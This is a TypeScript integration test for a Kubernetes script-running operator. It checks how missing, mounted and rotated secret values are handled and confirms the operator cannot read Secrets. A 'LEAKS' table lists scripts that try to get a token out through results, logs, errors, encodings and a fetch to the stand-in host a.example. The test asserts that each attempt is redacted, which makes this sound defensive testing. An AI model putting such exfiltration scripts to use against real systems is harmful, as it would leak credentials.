// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are sources of scripts
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { eventually } from '../../support/until.ts';
import { Cluster } from './support/cluster.ts';
import { ValuesDirectory } from './support/mounted-values.ts';
import type { RuntimePod } from './support/runtime-pod.ts';

const TOKEN = 'tok-5f9a1c+/"7e';
const ROTATED = 'tok-rotated-88/4';
const ENV = [
  { name: 'REGION', value: 'eu' },
  { name: 'TOKEN', valueFrom: { secretKeyRef: { name: 'crm', key: 'token' } } },
  { name: 'PROXY', valueFrom: { configMapKeyRef: { name: 'site', key: 'proxy', optional: true } } },
];

let cluster: Cluster;
let pod: RuntimePod;
const directory = new ValuesDirectory();
const mount = (files: Readonly<Record<string, string>>): void => directory.mount(files);

beforeAll(async () => {
  cluster = await Cluster.create();
  await (await cluster.startOperator({ events: 'all' })).leads();
  await cluster.makeRuntime('default', { pool: { size: 1 }, env: ENV });
  mount({});
  pod = await cluster.startPod('default', { env: { COPEPOD_VALUES_DIR: directory.path } });
}, 60_000);
afterAll(async () => {
  await cluster?.close();
  directory.remove();
});

const conditionOf = async (type: string) =>
  (await cluster.getRuntime('default')).status.conditions?.find((each) => each.type === type);

test('a value that does not exist is a condition with its name, and executions wait for it', async () => {
  await cluster.executions.create('waits', { source: '[env.REGION, env.TOKEN.length]' });
  const message = await eventually(async () => {
    const condition = await conditionOf('EnvMissing');
    expect(condition).toMatchObject({ status: 'True', reason: 'ValueNotFound' });
    return condition?.message;
  }, 30_000);
  expect(message).toMatch(/^env\.TOKEN: Secret "crm" with key "token" does not exist\. Executions that need it wait\./);
  expect(await conditionOf('Ready')).toMatchObject({ status: 'False', reason: 'ValueNotFound' });
  const { status } = await cluster.executions.reaches('waits', 'RuntimeNotReady');
  const succeeded = status.conditions?.find(({ type }) => type === 'Succeeded');
  expect(succeeded?.message).toBe(
    'env.TOKEN: Secret "crm" with key "token" does not exist: the execution waits for it.',
  );
  expect(status.claim).toBeUndefined();
}, 60_000);

test('an execution with a value of its own does not wait', async () => {
  await cluster.executions.create('own', { source: 'env.TOKEN', env: [{ name: 'TOKEN', value: 'own' }] });
  expect((await cluster.executions.reaches('own', 'Completed')).status.result).toBe('own');
}, 60_000);

test('once the kubelet has mounted it, the execution runs, and the condition is gone', async () => {
  mount({ 'secrets/crm/token': TOKEN });
  expect((await cluster.executions.reaches('waits', 'Completed')).status.result).toEqual(['eu', TOKEN.length]);
  await eventually(async () => expect(await conditionOf('EnvMissing')).toBeUndefined(), 30_000);
  expect(await conditionOf('Ready')).toMatchObject({ status: 'True' });
}, 60_000);

const LEAKS: Readonly<Record<string, string>> = {
  result: '({ [env.TOKEN]: env, b: btoa("me:" + env.TOKEN), u: encodeURIComponent(env.TOKEN) })',
  logs: 'console.log(env.TOKEN, env, btoa(env.TOKEN)); console.error(env.TOKEN.slice(0, 7)); console.error(env.TOKEN.slice(7))',
  error: 'throw Object.assign(new TypeError(env.TOKEN, { cause: new Error(env.TOKEN) }), { name: env.TOKEN })',
  stack: 'const e = new Error(env.TOKEN); e.stack = `${env.TOKEN}\\n    at ${env.TOKEN} (${env.TOKEN}:1:1)`; throw e',
  text: 'throw JSON.stringify(env)',
  aggregate: 'throw new AggregateError([new Error(env.TOKEN), env.TOKEN], "x")',
  host: 'await count(env.TOKEN); throw new Error(env.TOKEN)',
  import: 'await import(env.TOKEN)',
  url: 'await fetch(`https://a.example/hooks/${env.TOKEN}/${encodeURIComponent(env.TOKEN)}?key=${env.TOKEN}`)',
};

test('no script can tell it: it is in no status, event, log line or metric', async () => {
  for (const [name, source] of Object.entries(LEAKS)) await cluster.executions.create(`leak-${name}`, { source });
  const ended = await cluster.executions.ended(Object.keys(LEAKS).map((name) => `leak-${name}`));
  const texts = ended.map((each) => JSON.stringify(each));
  expect(texts.join()).toContain('***');
  const events = `/apis/events.k8s.io/v1/namespaces/${cluster.namespace}/events`;
  const found = await eventually(async () => {
    const list = await cluster.api.request<{ items: { regarding: { name: string } }[] }>('GET', events);
    expect(list.items.filter(({ regarding }) => regarding.name.startsWith('leak-')).length).toBeGreaterThan(5);
    return JSON.stringify(list);
  }, 30_000);
  texts.push(found, JSON.stringify(await cluster.getRuntime('default')));
  texts.push(pod.process.tail(1_000_000), await (await fetch(`http://${pod.object.address}:8080/metrics`)).text());
  expect(texts.at(-2)).toContain('"source":"script"');
  expect(texts.at(-2)).toContain('request of a script');
  const forms = [
    TOKEN,
    JSON.stringify(TOKEN).slice(1, -1),
    encodeURIComponent(TOKEN),
    Buffer.from(TOKEN).toString('base64').slice(0, -1),
    Buffer.from(`me:${TOKEN}`).toString('base64').slice(4, 20),
    Buffer.from(TOKEN).toString('hex'),
    'tok-5f9',
  ];
  for (const form of forms) expect(texts.filter((text) => text.includes(form))).toEqual([]);
}, 120_000);

test('a rotated value is seen by the next execution of the same process', async () => {
  const { bootID } = (await cluster.executions.get('waits')).status.claim as { bootID: string };
  mount({ 'secrets/crm/token': ROTATED });
  await eventually(async () => {
    const name = `rotated-${Math.random().toString(36).slice(2, 8)}`;
    await cluster.executions.create(name, { source: '[env.TOKEN.length, env.TOKEN]' });
    const { status } = await cluster.executions.reaches(name, 'Completed');
    expect(status).toMatchObject({ result: [ROTATED.length, '***'], claim: { bootID } });
  }, 30_000);
}, 60_000);

test('the operator holds no right to read Secrets of the namespace', async () => {
  const review = await cluster.api.request<{ status: { allowed: boolean } }>(
    'POST',
    '/apis/authorization.k8s.io/v1/subjectaccessreviews',
    {
      apiVersion: 'authorization.k8s.io/v1',
      kind: 'SubjectAccessReview',
      spec: {
        user: cluster.user,
        resourceAttributes: { namespace: cluster.namespace, verb: 'get', resource: 'secrets' },
      },
    },
  );
  expect(review.status.allowed).toBe(false);
});
